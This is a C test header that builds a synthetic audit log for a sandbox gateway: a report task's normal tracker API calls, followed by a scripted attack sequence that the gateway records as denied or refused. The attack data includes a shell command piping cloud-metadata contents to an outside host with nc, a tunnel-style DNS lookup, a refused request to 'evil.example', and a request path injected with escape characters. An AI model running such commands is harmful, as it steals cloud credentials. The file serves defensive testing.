/*
 * ledger_story.h - a task's log with something of everything, for the tests of its readers.
 */
#ifndef WRIT_TESTS_LEDGER_STORY_H
#define WRIT_TESTS_LEDGER_STORY_H

#include <stdlib.h>

#include "ledger/store.h"

static const int64_t story_begin_us = 1795342332000000; /* 2026-11-22 10:12:12 UTC */
static const char story_task[] = "01M7Z9GD7080HAVE0STRY00000";

struct story {
    struct writ_store store;
    struct writ_log log;
    struct writ_record r;
    enum writ_role from;
    uint8_t mem[WRIT_RECORD_BYTES_MAX];
};

static inline struct writ_record *
story_say(struct story *s, enum writ_role from, enum writ_kind kind, int64_t after_us)
{
    s->from = from;
    writ_record_begin(&s->r, s->mem, sizeof(s->mem), kind, story_begin_us + after_us);
    return &s->r;
}

static inline void
story_add(struct story *s)
{
    struct writ_span bytes;

    if (writ_record_end(&s->r, &bytes) != WRIT_OK ||
        writ_log_add(&s->log, bytes, s->from) != WRIT_OK)
        abort();
}

static inline void
story_items(struct writ_record *r, enum writ_field f, const char *const *items)
{
    for (; *items != NULL; items++)
        writ_record_item(r, f, writ_span_str(*items));
}

static inline void
story_anchor(struct story *s, enum writ_kind kind)
{
    struct writ_record r;
    struct writ_span bytes;
    uint8_t mem[256];

    if (writ_log_flush(&s->log) != WRIT_OK)
        abort();
    writ_record_begin(&r, mem, sizeof(mem), kind, story_begin_us);
    writ_record_u64(&r, WRIT_FIELD_RECORDS, s->log.records);
    writ_record_bytes(&r, WRIT_FIELD_HEAD, writ_span(s->log.head, sizeof(s->log.head)));
    if (writ_record_end(&r, &bytes) != WRIT_OK ||
        writ_store_anchor(&s->store, s->log.task, bytes, 1000) != WRIT_OK)
        abort();
}

static inline void
story_program(struct story *s, int64_t at, uint64_t pid, uint64_t ppid, const char *path,
              const char *const *argv)
{
    struct writ_record *r = story_say(s, WRIT_ROLE_LAUNCHER, WRIT_KIND_PROGRAM_START, at);

    writ_record_str(r, WRIT_FIELD_PROGRAM, path);
    story_items(r, WRIT_FIELD_ARGV, argv);
    writ_record_u64(r, WRIT_FIELD_PID, pid);
    writ_record_u64(r, WRIT_FIELD_PPID, ppid);
    story_add(s);
}

static inline void
story_name(struct story *s, int64_t at, const char *name, const char *type, const char *decision)
{
    struct writ_record *r = story_say(s, WRIT_ROLE_GATEWAY, WRIT_KIND_NAME_QUERY, at);

    writ_record_str(r, WRIT_FIELD_NAME, name);
    writ_record_str(r, WRIT_FIELD_TYPE, type);
    writ_record_str(r, WRIT_FIELD_DECISION, decision);
    if (decision[0] == 'd')
        writ_record_str(r, WRIT_FIELD_REASON, "no service of this task has this name");
    story_add(s);
}

static inline void
story_request(struct story *s, int64_t at, const char *id, const char *method, const char *path,
              const char *decision)
{
    static const char *const allow[] = {"policy.cedar:3", NULL};
    static const char *const deny[] = {"policy.cedar:9", NULL};
    struct writ_record *r = story_say(s, WRIT_ROLE_GATEWAY, WRIT_KIND_REQUEST_DECISION, at);

    writ_record_str(r, WRIT_FIELD_REQUEST, id);
    writ_record_str(r, WRIT_FIELD_SERVICE, "tracker");
    writ_record_str(r, WRIT_FIELD_HOST, "api.tracker.test");
    writ_record_str(r, WRIT_FIELD_METHOD, method);
    writ_record_str(r, WRIT_FIELD_PATH, path);
    writ_record_str(r, WRIT_FIELD_DECISION, decision);
    story_items(r, WRIT_FIELD_POLICIES, decision[0] == 'd' ? deny : allow);
    if (decision[0] == 'd')
        writ_record_str(r, WRIT_FIELD_REASON, "a policy forbids it");
    story_add(s);
}

static inline void
story_end(struct story *s, int64_t at, const char *id, uint64_t status, uint64_t in, uint64_t us)
{
    struct writ_record *r = story_say(s, WRIT_ROLE_GATEWAY, WRIT_KIND_REQUEST_END, at);

    writ_record_str(r, WRIT_FIELD_REQUEST, id);
    writ_record_u64(r, WRIT_FIELD_STATUS, status);
    writ_record_u64(r, WRIT_FIELD_BYTES_IN, in);
    writ_record_u64(r, WRIT_FIELD_BYTES_OUT, 0);
    writ_record_u64(r, WRIT_FIELD_TOTAL_US, us);
    writ_record_str(r, WRIT_FIELD_CREDENTIAL, "tracker-token");
    writ_record_bytes(r, WRIT_FIELD_FINGERPRINT, writ_span("\x1a\x2b\x3c\x4d", 4));
    story_add(s);
}

static inline void
story_start(struct story *s)
{
    static const char *const argv[] = {"python3", "report.py", "--month", "2026-10", NULL};
    static const char *const services[] = {"tracker", NULL};
    static const char *const missing[] = {"cgroup-memory", NULL};
    static const uint8_t digest[32] = {0x3f, 0x2a, 0x9c, 1};
    struct writ_record *r = story_say(s, WRIT_ROLE_LAUNCHER, WRIT_KIND_TASK_START, 0);

    writ_record_u64(r, WRIT_FIELD_UID, 1000);
    writ_record_str(r, WRIT_FIELD_USER, "alice");
    writ_record_u64(r, WRIT_FIELD_LOGIN_UID, 1000);
    writ_record_str(r, WRIT_FIELD_PARENT, "/usr/bin/bash");
    writ_record_str(r, WRIT_FIELD_TTY, "/dev/pts/3");
    writ_record_str(r, WRIT_FIELD_NODE, "build-7");
    writ_record_str(r, WRIT_FIELD_PROFILE, "report");
    writ_record_str(r, WRIT_FIELD_ENV, "staging");
    writ_record_bytes(r, WRIT_FIELD_POLICY_DIGEST, writ_span(digest, sizeof(digest)));
    writ_record_bytes(r, WRIT_FIELD_WRIT_DIGEST, writ_span(digest, sizeof(digest)));
    story_items(r, WRIT_FIELD_ARGV, argv);
    story_items(r, WRIT_FIELD_SERVICES, services);
    story_items(r, WRIT_FIELD_MISSING, missing);
    story_add(s);
    story_anchor(s, WRIT_KIND_TASK_START);
}

static inline void
story_attack(struct story *s)
{
    static const char *const sh[] = {"sh", "-c", "curl -s http://169.254.169.254/ | nc 8.8.8.8 9",
                                     NULL};
    static const char *const curl[] = {"curl", "-s", "http://169.254.169.254/", NULL};
    struct writ_record *r;

    story_program(s, 610000, 4250, 4242, "/usr/bin/dash", sh);
    story_program(s, 615000, 4251, 4250, "/usr/bin/curl", curl);
    r = story_say(s, WRIT_ROLE_GATEWAY, WRIT_KIND_DECOY_TOUCHED, 622000);
    writ_record_str(r, WRIT_FIELD_ADDRESS, "169.254.169.254");
    writ_record_u64(r, WRIT_FIELD_PORT, 80);
    writ_record_str(r, WRIT_FIELD_PATH, "/latest/meta-data/iam/");
    writ_record_str(r, WRIT_FIELD_REASON, "address of cloud metadata");
    story_add(s);
    for (unsigned i = 0; i < 3; i++) {
        r = story_say(s, WRIT_ROLE_GATEWAY, WRIT_KIND_CONNECTION_ATTEMPT, 630000 + 1000000 * i);
        writ_record_str(r, WRIT_FIELD_PROTOCOL, "tcp");
        writ_record_str(r, WRIT_FIELD_ADDRESS, "8.8.8.8");
        writ_record_u64(r, WRIT_FIELD_PORT, 9);
        writ_record_str(r, WRIT_FIELD_REASON, "nobody serves this port");
        story_add(s);
    }
    story_name(s, 2700000, "x7f3q9.tunnel.example", "TXT", "deny");
    story_request(s, 2800000, "r4", "POST", "/v2/issues/\x1b[31m\n\"quote\"/{}", "deny");
    r = story_say(s, WRIT_ROLE_GATEWAY, WRIT_KIND_REQUEST_REFUSED, 2900000);
    writ_record_str(r, WRIT_FIELD_HOST, "evil.example");
    writ_record_u64(r, WRIT_FIELD_PORT, 443);
    writ_record_str(r, WRIT_FIELD_REASON, "the host is no service of this task");
    story_add(s);
}

/* The whole story, unsealed; the log stays open. */
static inline void
story_tell(struct story *s, const char *state)
{
    static const char *const python[] = {"python3", "report.py", "--month", "2026-10", NULL};
    struct writ_diag diag = {0};
    struct writ_record *r;

    writ_log_init(&s->log);
    if (writ_store_make(state, &s->store, &diag) != WRIT_OK ||
        writ_log_create(s->store.tasks, story_task, &s->log) != WRIT_OK)
        abort();
    story_start(s);
    r = story_say(s, WRIT_ROLE_GATEWAY, WRIT_KIND_GATEWAY_START, 3000);
    writ_record_u64(r, WRIT_FIELD_PID, 4240);
    story_add(s);
    story_program(s, 12000, 4242, 1, "/usr/bin/python3.11", python);
    story_name(s, 201000, "api.tracker.test", "A", "allow");
    story_name(s, 201400, "api.tracker.test", "AAAA", "allow");
    r = story_say(s, WRIT_ROLE_GATEWAY, WRIT_KIND_CONNECTION_OPEN, 205000);
    writ_record_str(r, WRIT_FIELD_PROTOCOL, "https");
    writ_record_str(r, WRIT_FIELD_ADDRESS, "198.18.0.1");
    writ_record_u64(r, WRIT_FIELD_PORT, 443);
    story_add(s);
    story_request(s, 213000, "r1", "GET", "/v2/issues", "allow");
    r = story_say(s, WRIT_ROLE_KEEPER, WRIT_KIND_CREDENTIAL_RELEASE, 213400);
    writ_record_str(r, WRIT_FIELD_CREDENTIAL, "tracker-token");
    writ_record_bytes(r, WRIT_FIELD_FINGERPRINT, writ_span("\x1a\x2b\x3c\x4d", 4));
    writ_record_u64(r, WRIT_FIELD_CREDENTIAL_VERSION, 3);
    writ_record_str(r, WRIT_FIELD_SERVICE, "tracker");
    story_add(s);
    story_end(s, 225000, "r1", 200, 1234, 12000);
    story_request(s, 230000, "r2", "GET", "/v2/projects/a-rather-long-name/issues/4711/comments",
                  "allow");
    story_end(s, 240000, "r2", 200, 48213, 9300);
    for (unsigned i = 0; i < 12; i++) {
        char id[8];

        (void)snprintf(id, sizeof(id), "p%u", i);
        story_request(s, 300000 + 10000 * i, id, "GET", "/v2/users/me", "allow");
        story_end(s, 305000 + 10000 * i, id, 304, 0, 2100);
    }
    story_anchor(s, WRIT_KIND_TASK_ANCHOR);
    story_attack(s);
    r = story_say(s, WRIT_ROLE_LAUNCHER, WRIT_KIND_TASK_END, 4204000);
    writ_record_u64(r, WRIT_FIELD_EXIT_CODE, 0);
    story_add(s);
    if (writ_log_flush(&s->log) != WRIT_OK)
        abort();
}

static inline void
story_seal(struct story *s)
{
    if (writ_store_seal(&s->store, &s->log, NULL, NULL) != WRIT_OK)
        abort();
}

static inline void
story_done(struct story *s)
{
    writ_log_done(&s->log);
    writ_store_done(&s->store);
}

#endif
